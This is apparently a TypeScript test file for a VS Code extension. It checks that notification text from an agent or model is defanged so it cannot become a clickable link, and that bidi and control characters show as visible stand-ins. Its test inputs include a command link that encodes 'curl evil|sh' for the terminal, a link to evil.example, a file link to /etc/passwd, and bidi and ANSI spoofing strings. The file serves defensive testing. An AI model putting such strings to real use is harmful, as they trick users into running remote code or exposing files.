// What Hermes puts in a VS Code notification from the agent or a model (a command to approve, a
// chat's title, an error) is never a link: VS Code makes `[label](https:|http:|command:|file:…)`
// in a notification's message a link, and a command link runs that command when clicked. The
// pattern below is the one VS Code's notifications parse (vs/base/common/linkedText.ts).
import assert from "node:assert/strict";
import { test } from "node:test";
import { notificationText } from "../../extension/notification-text";

const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

test("a command link, a web link or a file link in a title is no link in the notification, and reads the same", () => {
  for (const title of [
    "$ echo [Allow once](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)",
    "Fix [the docs](https://evil.example/x) now",
    "see [notes](file:///etc/passwd)",
    "[a](command:x) and [b](http://y)",
  ]) {
    const shown = notificationText(title);
    assert.equal(shown.match(VSCODE_LINK), null, shown);
    assert.equal(shown.replace(/\u200b/g, ""), title, "nothing but a zero-width space is added");
  }
  assert.equal(notificationText("$ rm -rf build"), "$ rm -rf build", "plain text is unchanged");
});

test("control characters and bidi overrides in a notification show as stand-ins", () => {
  assert.equal(notificationText("rm -rf x # \u202Etxt.elif"), "rm -rf x # <U+202E>txt.elif");
  assert.equal(notificationText("a\x1b[8mb"), "a␛[8mb");
});
